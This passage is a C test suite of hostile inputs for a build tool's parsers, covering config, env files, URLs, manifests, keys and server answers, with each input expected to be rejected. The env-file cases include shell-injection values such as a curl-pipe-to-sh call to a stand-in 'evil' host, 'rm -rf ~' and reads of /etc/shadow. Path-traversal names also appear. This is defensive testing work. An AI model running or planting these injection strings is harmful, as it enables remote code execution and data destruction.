/* test_hostile.c - one table of hostile inputs across every parser flywheel has,
 * each with the failure class it must end in.
 *
 * Areas: repository policy (flywheel.ini), .env.flywheel.local, endpoint URLs,
 * instance names, Bazel argv, inputs manifests, archive (input) names, keys and
 * signatures, and server answers (REAPI Capabilities, credential-helper
 * requests, narinfo, execution logs, build events, eligibility manifests).
 * A case passes when the parser refuses the input with the expected class (and,
 * for fw_error users, a complete message with a fix) and does not crash or
 * leak (ASan / valgrind runs of this suite check the last two).  The count of
 * cases and the classes seen are printed at the end.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "flywheel/bazel_argv.h"
#include "flywheel/config.h"
#include "flywheel/credhelper.h"
#include "flywheel/eligibility.h"
#include "flywheel/endpoint.h"
#include "flywheel/envfile.h"
#include "flywheel/execlog.h"
#include "flywheel/manifest.h"
#include "flywheel/narinfo.h"
#include "flywheel/plan.h"
#include "flywheel/policy.h"
#include "flywheel/reapi.h"
#include "flywheel/sign.h"
#include "flywheel/util.h"

#include "flywheel/banned.h"

/* Expected outcome.  Values below FW_CLASS__MAX are fw_class values a module
 * reports through struct fw_error; the others are for APIs that only return
 * an error code (the caller turns it into a message). */
enum {
	X_REJECT = FW_CLASS__MAX + 1, /* refused by a predicate or an errno-only API */
	X_BADMSG,                     /* malformed stream: -EBADMSG / -EPROTO / -EINVAL */
};

enum area {
	A_INI,
	A_ENVFILE,
	A_URL_CACHE,
	A_URL_EXEC,
	A_INSTANCE,
	A_ARGV,
	A_MANIFEST,
	A_NAME,
	A_PUBKEY,
	A_SIG,
	A_REAPI_FRAME,
	A_REAPI_CAPS,
	A_CREDREQ,
	A_NARINFO,
	A_NIXCONF,
	A_EXECLOG_JSON,
	A_EXECLOG_COMPACT,
	A_ELIG,
	A__MAX,
};

static const char *const area_names[A__MAX] = {
	[A_INI] = "config (flywheel.ini)",
	[A_ENVFILE] = "env file",
	[A_URL_CACHE] = "cache URL",
	[A_URL_EXEC] = "executor URL",
	[A_INSTANCE] = "instance name",
	[A_ARGV] = "bazel argv",
	[A_MANIFEST] = "inputs manifest",
	[A_NAME] = "archive name",
	[A_PUBKEY] = "public key",
	[A_SIG] = "signature",
	[A_REAPI_FRAME] = "server answer: gRPC frame",
	[A_REAPI_CAPS] = "server answer: capabilities",
	[A_CREDREQ] = "credential-helper request",
	[A_NARINFO] = "server answer: narinfo",
	[A_NIXCONF] = "nix.conf",
	[A_EXECLOG_JSON] = "execution log (JSON)",
	[A_EXECLOG_COMPACT] = "execution log (compact)",
	[A_ELIG] = "eligibility manifest",
};

struct hcase {
	enum area area;
	int expect;
	const char *input;
	size_t len; /* 0: strlen(input) */
};

#define C FW_CLASS_CONFIG
#define I FW_CLASS_EXTERNAL_INPUT
#define U FW_CLASS_USAGE
#define K FW_CLASS_CAPABILITIES

/* A valid manifest entry, and the manifest around it; the hostile cases below
 * replace one part.  %s slots: top-level fields, then the entry's fields. */
#define SHA_OK "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define TOP_OK "\"schema\":\"flywheel-inputs/1\",\"version\":3,\"expires\":\"2099-01-01T00:00:00Z\""
#define ENTRY(name, sha, size, urls) \
	"{" TOP_OK ",\"inputs\":[{\"name\":" name ",\"sha256\":" sha ",\"size\":" size ",\"urls\":" urls "}]}"
#define E_NAME(n) ENTRY(n, "\"" SHA_OK "\"", "10", "[\"https://m/a\"]")
#define E_SHA(s) ENTRY("\"a.tgz\"", s, "10", "[\"https://m/a\"]")
#define E_SIZE(s) ENTRY("\"a.tgz\"", "\"" SHA_OK "\"", s, "[\"https://m/a\"]")
#define E_URLS(u) ENTRY("\"a.tgz\"", "\"" SHA_OK "\"", "10", u)
#define TOP(t) "{" t ",\"inputs\":[]}"

/* A valid ServerCapabilities as bytes, for framing cases. */
#define B64_64 "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
#define B64_32 "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8="

/* rows leave len out where the input is a C string */
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wmissing-field-initializers"
static const struct hcase cases[] = {
	/* ---- flywheel.ini ------------------------------------------------------ */
	{ A_INI, C, "[remote]\ntoken = s3cr3t\n" },
	{ A_INI, C, "[remote]\nheader = Authorization=Bearer abc\n" },
	{ A_INI, C, "[remote]\ncache_header = x-api-key=abc\n" },
	{ A_INI, C, "[remote]\nexec_header = x-api-key=abc\n" },
	{ A_INI, C, "[remote]\ntls_client_key = /k.pem\n" },
	{ A_INI, C, "[remote]\nnosuchkey = 1\n" },
	{ A_INI, C, "[nosuchsection]\nx = 1\n" },
	{ A_INI, C, "[remote\ncache = grpcs://c\n" },
	{ A_INI, C, "cache grpcs://c\n" },
	{ A_INI, C, "[remote]\ncache\n" },
	{ A_INI, C, "[core]\nprobe_timeout_ms = -1\n" },
	{ A_INI, C, "[core]\nprobe_timeout_ms = 12abc\n" },
	{ A_INI, C, "[core]\nprobe_timeout_ms = 99999999999999999999999\n" },
	{ A_INI, C, "[core]\nverdict_ttl = 0x10\n" },
	{ A_INI, C, "[core]\nreport = maybe\n" },
	{ A_INI, C, "[remote]\nupload = yes please\n" },
	{ A_INI, C, "[remote]\ncache = ${CACHE_URL}\n" },
	{ A_INI, C, "[remote]\ninstance_name = $(whoami)\n" },
	{ A_INI, C, "[bazel]\noutput_base = }\n" },
	{ A_INI, C, "[core]\nmode = turbo\n" },
	{ A_INI, C, "[core]\nfallback = sometimes\n" },
	{ A_INI, C, "[remote]\nmax_connections = many\n" },
	{ A_INI, C, "[remote]\njobs = -4\n" },
	{ A_INI, C, "[remote]\nquota_retries = 1e3\n" },
	{ A_INI, C, "[remote]\nforce_execution = 2\n" },
	{ A_INI, C, "[remote]\nallow_loopback = 1 1\n" },
	{ A_INI, C, "\x01\x02\x03\n" },
	{ A_INI, C, "[remote]\ntoken = ghp_0123456789abcdefghijklmnopqrstuvwx\n" },
	{ A_INI, C, "[remote]\ncache = grpcs://c\ntoken_file = /t\nheader = a=b\n" },

	/* ---- .env.flywheel.local ---------------------------------------------- */
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=$(curl evil|sh)" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=`id`" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=\"$(id)\"" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=\"`id`\"" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=$HOME" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=${HOME}" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=a;rm -rf ~" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=a && id" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=a|id" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=a>/etc/passwd" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=a</etc/shadow" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=a b" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE='unterminated" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=\"unterminated" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE=a&" },
	{ A_ENVFILE, C, "source /etc/profile" },
	{ A_ENVFILE, C, ". ./evil.sh" },
	{ A_ENVFILE, C, "eval BAZEL_REMOTE_CACHE=x" },
	{ A_ENVFILE, C, "unset HOME" },
	{ A_ENVFILE, C, "alias bazel=rm" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE+=x" },
	{ A_ENVFILE, C, "1BAD=x" },
	{ A_ENVFILE, C, "BAD-KEY=x" },
	{ A_ENVFILE, C, "=x" },
	{ A_ENVFILE, C, "export" },
	{ A_ENVFILE, C, "export =x" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE" },
	{ A_ENVFILE, C, "BAZEL_REMOTE_CACHE =x" },
	{ A_ENVFILE, C, "X=(a b c)" },
	{ A_ENVFILE, C, "X=a\\\nb" },
	{ A_ENVFILE, C, "X=~root" },
	{ A_ENVFILE, C, "X=a*" },
	{ A_ENVFILE, C, "X=\"a\\nb$\"" },
	{ A_ENVFILE, C, "X=\"a\" b" },
	{ A_ENVFILE, C, "X='a'b'" },
	{ A_ENVFILE, C, "f() { id; }" },
	{ A_ENVFILE, C, "X=$'\\x41'" },
	{ A_ENVFILE, C, "X=a\0b", 5 },
	{ A_ENVFILE, C, "if true; then X=1; fi" },
	{ A_ENVFILE, C, "X=1 Y=2" },
	{ A_ENVFILE, C, "export X=1; id" },

	/* ---- endpoint URLs (cache role) ----------------------------------------- */
	{ A_URL_CACHE, EP_E_EMPTY, "" },
	{ A_URL_CACHE, EP_E_SCHEME, "ftp://cache.example" },
	{ A_URL_CACHE, EP_E_SCHEME, "file:///etc/passwd" },
	{ A_URL_CACHE, EP_E_SCHEME, "gopher://h" },
	{ A_URL_CACHE, EP_E_SCHEME, "javascript:alert(1)" },
	{ A_URL_CACHE, EP_E_SCHEME, "cache.example:443" },
	{ A_URL_CACHE, EP_E_SCHEME, "//cache.example" },
	{ A_URL_CACHE, EP_E_SCHEME, "grpcs:/cache.example" },
	{ A_URL_CACHE, EP_E_USERINFO, "https://user:pass@cache.example/" },
	{ A_URL_CACHE, EP_E_USERINFO, "grpcs://token@cache.example" },
	{ A_URL_CACHE, EP_E_USERINFO, "https://@cache.example/" },
	{ A_URL_CACHE, EP_E_USERINFO, "https://evil.example@cache.example/" },
	{ A_URL_CACHE, EP_E_PLACEHOLDER, "grpcs://${HOST}" },
	{ A_URL_CACHE, EP_E_PLACEHOLDER, "grpcs://cache.example:${PORT}" },
	{ A_URL_CACHE, EP_E_PLACEHOLDER, "https://$(hostname)/" },
	{ A_URL_CACHE, EP_E_PLACEHOLDER, "https://c/}" },
	{ A_URL_CACHE, EP_E_PORT, "grpcs://cache.example:0" },
	{ A_URL_CACHE, EP_E_PORT, "grpcs://cache.example:65536" },
	{ A_URL_CACHE, EP_E_PORT, "grpcs://cache.example:99999999999" },
	{ A_URL_CACHE, EP_E_PORT, "grpcs://cache.example:-1" },
	{ A_URL_CACHE, EP_E_PORT, "grpcs://cache.example:44a" },
	{ A_URL_CACHE, EP_E_PORT, "grpcs://cache.example:" },
	{ A_URL_CACHE, EP_E_PORT, "grpcs://cache.example:+443" },
	{ A_URL_CACHE, EP_E_HOST, "grpcs://" },
	{ A_URL_CACHE, EP_E_HOST, "grpcs://:443" },
	{ A_URL_CACHE, EP_E_HOST, "https://cache..example/" },
	{ A_URL_CACHE, EP_E_HOST, "https://-cache.example/" },
	{ A_URL_CACHE, EP_E_HOST, "https://cache_example/" },
	{ A_URL_CACHE, EP_E_HOST, "https://[::1/" },
	{ A_URL_CACHE, EP_E_HOST, "https://[zz::1]/" },
	{ A_URL_CACHE, EP_E_HOST, "https://cache.example%00.evil/" },
	{ A_URL_CACHE, EP_E_HOST, "https://cach\xc3\xa9.example/" },
	{ A_URL_CACHE, EP_E_HOST,
	  "https://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.example/" },
	{ A_URL_CACHE, EP_E_SPACE, "https://cache.example/ a" },
	{ A_URL_CACHE, EP_E_SPACE, " https://cache.example/" },
	{ A_URL_CACHE, EP_E_SPACE, "https://cache.example/\n--remote_executor=x" },
	{ A_URL_CACHE, EP_E_SPACE, "https://cache.example/\t" },
	{ A_URL_CACHE, EP_E_QUERY, "https://cache.example/?x=1" },
	{ A_URL_CACHE, EP_E_QUERY, "https://cache.example/#frag" },
	{ A_URL_CACHE, EP_E_QUERY, "https://cache.example/a?token=abc" },
	{ A_URL_CACHE, EP_E_PATH, "unix:relative.sock" },
	{ A_URL_CACHE, EP_E_PATH, "unix:" },
	{ A_URL_CACHE, EP_E_PATH, "grpcs://cache.example/some/path" },
	/* ---- endpoint URLs (executor role) -------------------------------------- */
	{ A_URL_EXEC, EP_E_SCHEME_ROLE, "http://exec.example" },
	{ A_URL_EXEC, EP_E_SCHEME_ROLE, "https://exec.example" },
	{ A_URL_EXEC, EP_E_SCHEME, "ws://exec.example" },
	{ A_URL_EXEC, EP_E_USERINFO, "grpcs://a:b@exec.example" },
	{ A_URL_EXEC, EP_E_PORT, "grpcs://exec.example:70000" },
	{ A_URL_EXEC, EP_E_PLACEHOLDER, "grpcs://${EXEC}" },
	{ A_URL_EXEC, EP_E_EMPTY, "" },
	{ A_URL_EXEC, EP_E_HOST, "grpc://" },

	/* ---- instance names ---------------------------------------------------- */
	{ A_INSTANCE, X_REJECT, "../other-tenant" },
	{ A_INSTANCE, X_REJECT, "main/../admin" },
	{ A_INSTANCE, X_REJECT, "main/.." },
	{ A_INSTANCE, X_REJECT, "/main" },
	{ A_INSTANCE, X_REJECT, "main/" },
	{ A_INSTANCE, X_REJECT, "main//ci" },
	{ A_INSTANCE, X_REJECT, "main ci" },
	{ A_INSTANCE, X_REJECT, "main\nci" },
	{ A_INSTANCE, X_REJECT, "main;ci" },
	{ A_INSTANCE, X_REJECT, "main$ci" },
	{ A_INSTANCE, X_REJECT, "${INSTANCE}" },
	{ A_INSTANCE, X_REJECT, "main\\ci" },
	{ A_INSTANCE, X_REJECT, "m\xc3\xa4in" },
	{ A_INSTANCE, X_REJECT, "main:ci" },
	{ A_INSTANCE, X_REJECT, "main?x" },
	{ A_INSTANCE, X_REJECT, "main%2e%2e" },
	{ A_INSTANCE, X_REJECT,
	  "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	  "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" },

	/* ---- Bazel argv (NUL-separated words) ---------------------------------- */
	{ A_ARGV, U, "--output_base", 14 },
	{ A_ARGV, U, "--output_user_root", 19 },
	{ A_ARGV, U, "--host_jvm_args", 16 },
	{ A_ARGV, U, "--bazelrc", 10 },
	{ A_ARGV, U, "--nohome_rc\0--output_base", 26 },
	{ A_ARGV, C, "build\0--remote_cache=grpcs://other.example\0//...", 49 },
	{ A_ARGV, C, "test\0--remote_cache\0grpcs://other.example\0//...", 47 },
	{ A_ARGV, C, "build\0--remote_cache=\0//...", 27 },

	/* ---- inputs manifests ---------------------------------------------------- */
	{ A_MANIFEST, I, "" },
	{ A_MANIFEST, I, "null" },
	{ A_MANIFEST, I, "[]" },
	{ A_MANIFEST, I, "\"flywheel-inputs/1\"" },
	{ A_MANIFEST, I, "{" },
	{ A_MANIFEST, I, "{}" },
	{ A_MANIFEST, I, "{\"schema\":\"flywheel-inputs/1\"}" },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/2\",\"version\":1,\"expires\":\"2099-01-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"\",\"version\":1,\"expires\":\"2099-01-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":1,\"version\":1,\"expires\":\"2099-01-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":-1,\"expires\":\"2099-01-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1.5,\"expires\":\"2099-01-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":\"3\",\"expires\":\"2099-01-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":9007199254740993,\"expires\":\"2099-01-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1e300,\"expires\":\"2099-01-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":null,\"expires\":\"2099-01-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1,\"expires\":\"tomorrow\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1,\"expires\":\"2099-01-01\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1,\"expires\":\"2099-01-01T00:00:00+02:00\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1,\"expires\":\"2099-13-01T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1,\"expires\":\"2099-01-32T00:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1,\"expires\":\"2099-01-01T25:00:00Z\"") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1,\"expires\":1893456000") },
	{ A_MANIFEST, I, TOP("\"schema\":\"flywheel-inputs/1\",\"version\":1") },
	{ A_MANIFEST, I, TOP(TOP_OK ",\"extra\":true") },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":{}}" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":null}" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[1]}" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[{}]}" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[]} trailing" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[]}{}" },
	{ A_MANIFEST, I, E_NAME("\"../../etc/passwd\"") },
	{ A_MANIFEST, I, E_NAME("\"..\"") },
	{ A_MANIFEST, I, E_NAME("\".\"") },
	{ A_MANIFEST, I, E_NAME("\"\"") },
	{ A_MANIFEST, I, E_NAME("\"a/b.tgz\"") },
	{ A_MANIFEST, I, E_NAME("\"/abs.tgz\"") },
	{ A_MANIFEST, I, E_NAME("\"a\\\\b.tgz\"") },
	{ A_MANIFEST, I, E_NAME("\"a\\u0000b.tgz\"") },
	{ A_MANIFEST, I, E_NAME("\"a\\nb.tgz\"") },
	{ A_MANIFEST, I, E_NAME("\".hidden\"") },
	{ A_MANIFEST, I, E_NAME("1") },
	{ A_MANIFEST, I, E_NAME("null") },
	{ A_MANIFEST, I, E_SHA("\"0123\"") },
	{ A_MANIFEST, I, E_SHA("\"" SHA_OK "00\"") },
	{ A_MANIFEST, I, E_SHA("\"0123456789ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef\"") },
	{ A_MANIFEST, I, E_SHA("\"g123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\"") },
	{ A_MANIFEST, I, E_SHA("\" 123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\"") },
	{ A_MANIFEST, I, E_SHA("\"\"") },
	{ A_MANIFEST, I, E_SHA("null") },
	{ A_MANIFEST, I, E_SHA("[\"" SHA_OK "\"]") },
	{ A_MANIFEST, I, E_SIZE("-1") },
	{ A_MANIFEST, I, E_SIZE("1.5") },
	{ A_MANIFEST, I, E_SIZE("\"10\"") },
	{ A_MANIFEST, I, E_SIZE("68719476737") },
	{ A_MANIFEST, I, E_SIZE("1e20") },
	{ A_MANIFEST, I, E_SIZE("null") },
	{ A_MANIFEST, I, E_URLS("[]") },
	{ A_MANIFEST, I, E_URLS("\"https://m/a\"") },
	{ A_MANIFEST, I, E_URLS("[1]") },
	{ A_MANIFEST, I, E_URLS("[\"\"]") },
	{ A_MANIFEST, I, E_URLS("[\"ftp://m/a\"]") },
	{ A_MANIFEST, I, E_URLS("[\"file:///etc/passwd\"]") },
	{ A_MANIFEST, I, E_URLS("[\"https://u:p@m/a\"]") },
	{ A_MANIFEST, I, E_URLS("[\"https://m/a b\"]") },
	{ A_MANIFEST, I, E_URLS("[\"https://m/a\\nb\"]") },
	{ A_MANIFEST, I, E_URLS("[\"m/a\"]") },
	{ A_MANIFEST, I, E_URLS("null") },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[{\"name\":\"a.tgz\",\"sha256\":\"" SHA_OK "\",\"size\":10,\"urls\":[\"https://m/a\"],\"status\":\"maybe\"}]}" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[{\"name\":\"a.tgz\",\"sha256\":\"" SHA_OK "\",\"size\":10,\"urls\":[\"https://m/a\"],\"unknown\":1}]}" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[{\"name\":\"a.tgz\",\"sha256\":\"" SHA_OK "\",\"size\":10,\"urls\":[\"https://m/a\"]},"
			 "{\"name\":\"a.tgz\",\"sha256\":\"" SHA_OK "\",\"size\":10,\"urls\":[\"https://m/b\"]}]}" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[{\"name\":\"a.tgz\",\"sha256\":\"" SHA_OK "\",\"size\":10,\"urls\":[\"https://m/a\"],\"canonical_urls\":[\"ftp://x\"]}]}" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[{\"name\":\"a.tgz\",\"sha256\":\"" SHA_OK "\",\"size\":10}]}" },
	{ A_MANIFEST, I, "{" TOP_OK ",\"inputs\":[{\"sha256\":\"" SHA_OK "\",\"size\":10,\"urls\":[\"https://m/a\"]}]}" },
	{ A_MANIFEST, I, "{\"schema\":\"flywheel-inputs/1\",\"schema\":\"flywheel-inputs/1\",\"version\":1,\"expires\":\"2099-01-01T00:00:00Z\",\"inputs\":[]}" },
	{ A_MANIFEST, I, "\xef\xbb\xbf{" TOP_OK ",\"inputs\":[]} \x80" },
	{ A_MANIFEST, I, "{\"schema\":\"flywheel-inputs/1\xff\",\"version\":1,\"expires\":\"2099-01-01T00:00:00Z\",\"inputs\":[]}" },
	{ A_MANIFEST, I, "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[" },

	/* ---- archive (input) names ------------------------------------------------ */
	{ A_NAME, X_REJECT, "" },
	{ A_NAME, X_REJECT, "." },
	{ A_NAME, X_REJECT, ".." },
	{ A_NAME, X_REJECT, "../x.tgz" },
	{ A_NAME, X_REJECT, "a/../../x.tgz" },
	{ A_NAME, X_REJECT, "/etc/passwd" },
	{ A_NAME, X_REJECT, "dir/x.tgz" },
	{ A_NAME, X_REJECT, "x\\y.tgz" },
	{ A_NAME, X_REJECT, "x\ny.tgz" },
	{ A_NAME, X_REJECT, "x\ry.tgz" },
	{ A_NAME, X_REJECT, "x\ty.tgz" },
	{ A_NAME, X_REJECT, ".hidden.tgz" },
	{ A_NAME, X_REJECT, "x\x7fy" },
	{ A_NAME, X_REJECT, "x\x01y" },
	{ A_NAME, X_REJECT, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
			  "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.tgz" },

	/* ---- public keys --------------------------------------------------------------- */
	{ A_PUBKEY, C, "" },
	{ A_PUBKEY, C, "release" },
	{ A_PUBKEY, C, "release:" },
	{ A_PUBKEY, C, ":" B64_32 },
	{ A_PUBKEY, C, "release:" B64_64 },
	{ A_PUBKEY, C, "release:AAEC" },
	{ A_PUBKEY, C, "release:" B64_32 "AA" },
	{ A_PUBKEY, C, "release:!!!!" },
	{ A_PUBKEY, C, "rel ease:" B64_32 },
	{ A_PUBKEY, C, "rel/ease:" B64_32 },
	{ A_PUBKEY, C, "../x:" B64_32 },
	{ A_PUBKEY, C, "release:" B64_32 "\ntrailing garbage" },
	{ A_PUBKEY, C, "release:" B64_32 " extra" },
	{ A_PUBKEY, C, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:" B64_32 },
	{ A_PUBKEY, C, "untrusted comment: minisign public key\nRWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3" },
	{ A_PUBKEY, C, "release:AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8" },
	/* ---- signatures over "manifest" with key test:<32 zero-ish bytes> ------------------ */
	{ A_SIG, I, "" },
	{ A_SIG, I, "test" },
	{ A_SIG, I, "test:" },
	{ A_SIG, I, "test:" B64_32 },
	{ A_SIG, I, "test:" B64_64 },
	{ A_SIG, I, "other:" B64_64 },
	{ A_SIG, I, "test:" B64_64 "AAAA" },
	{ A_SIG, I, "test:%%%%" },
	{ A_SIG, I, "test:" B64_64 "\nsecond line" },
	{ A_SIG, I, "../../x:" B64_64 },

	/* ---- REAPI answers ------------------------------------------------------------------ */
	{ A_REAPI_FRAME, X_BADMSG, "", 0 },
	{ A_REAPI_FRAME, X_BADMSG, "\0\0\0", 3 },
	{ A_REAPI_FRAME, X_BADMSG, "\0\0\0\0\x05\x0a\x00", 7 },
	{ A_REAPI_FRAME, X_BADMSG, "\x01\0\0\0\x02\x0a\x00", 7 },
	{ A_REAPI_FRAME, X_BADMSG, "\0\0\0\0\x02\x0a\x00\x00", 8 },
	{ A_REAPI_FRAME, X_BADMSG, "\0\xff\xff\xff\xff", 5 },
	{ A_REAPI_FRAME, X_BADMSG, "\0\x00\x01\x00\x01", 5 },
	{ A_REAPI_FRAME, X_BADMSG, "HTTP/1.1 200 OK\r\n\r\n", 0 },
	{ A_REAPI_FRAME, X_BADMSG, "<html>502 Bad Gateway</html>", 0 },
	/* decodable messages that must fail the check for cache use */
	{ A_REAPI_CAPS, K, "", 0 },                                   /* nothing */
	{ A_REAPI_CAPS, K, "\x0a\x00", 2 },                           /* cache, no digest functions */
	{ A_REAPI_CAPS, K, "\x0a\x02\x08\x03", 4 },                   /* cache: MD5 only */
	{ A_REAPI_CAPS, K, "\x0a\x02\x08\x01\x22\x04\x08\x03\x10\x00", 10 }, /* SHA256, low API 3.0 */
	{ A_REAPI_CAPS, K, "\x0a\x02\x08\x01\x2a\x02\x08\x01", 8 },   /* SHA256, high API 1.0 */
	{ A_REAPI_CAPS, X_BADMSG, "\x0a\x05\x08", 3 },                /* truncated */
	{ A_REAPI_CAPS, X_BADMSG, "\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff", 11 },
	{ A_REAPI_CAPS, X_BADMSG, "\x0f", 1 },                        /* wire type 7 */

	/* ---- credential-helper requests ------------------------------------------------------ */
	{ A_CREDREQ, X_BADMSG, "" },
	{ A_CREDREQ, X_BADMSG, "{" },
	{ A_CREDREQ, X_BADMSG, "{}" },
	{ A_CREDREQ, X_BADMSG, "[]" },
	{ A_CREDREQ, X_BADMSG, "{\"uri\":1}" },
	{ A_CREDREQ, X_BADMSG, "{\"uri\":null}" },
	{ A_CREDREQ, X_BADMSG, "{\"uri\":[\"https://c\"]}" },
	{ A_CREDREQ, X_BADMSG, "{\"url\":\"https://c\"}" },
	{ A_CREDREQ, X_BADMSG, "{\"uri\":\"https://c\"} {\"uri\":\"https://evil\"}" },
	{ A_CREDREQ, X_BADMSG, "{\"uri\":\"https://c\"," },
	{ A_CREDREQ, X_BADMSG, "{\"uri\":\"\"}" },
	{ A_CREDREQ, X_BADMSG, "{\"uri\":\"https://c\\u0000.evil\"}" },
	{ A_CREDREQ, X_BADMSG, "\"https://c\"" },
	{ A_CREDREQ, X_BADMSG, "{\"uri\":\"https://c\xff\"}" },

	/* ---- narinfo ------------------------------------------------------------------------- */
	{ A_NARINFO, I, "" },
	{ A_NARINFO, I, "garbage" },
	{ A_NARINFO, I, "NarHash: sha256:04zwf782yjwnh3q6hz5izfd6jyip8kgw6g6yj43fiqhbyhdd0dqw\nNarSize: 1\n" },
	{ A_NARINFO, I, "StorePath: /nix/store/1p9q0bz6f22dyxh4lw8xs08p4201vyq4-f\nNarSize: 1\n" },
	{ A_NARINFO, I, "StorePath: /nix/store/1p9q0bz6f22dyxh4lw8xs08p4201vyq4-f\nNarHash: sha256:04zwf782yjwnh3q6hz5izfd6jyip8kgw6g6yj43fiqhbyhdd0dqw\n" },
	{ A_NARINFO, I, "StorePath: /nix/store/1p9q0bz6f22dyxh4lw8xs08p4201vyq4-f\nNarHash: sha256:04zwf782yjwnh3q6hz5izfd6jyip8kgw6g6yj43fiqhbyhdd0dqw\nNarSize: -1\n" },
	{ A_NARINFO, I, "StorePath: /nix/store/1p9q0bz6f22dyxh4lw8xs08p4201vyq4-f\nNarHash: sha256:04zwf782yjwnh3q6hz5izfd6jyip8kgw6g6yj43fiqhbyhdd0dqw\nNarSize: 99999999999999999999999\n" },
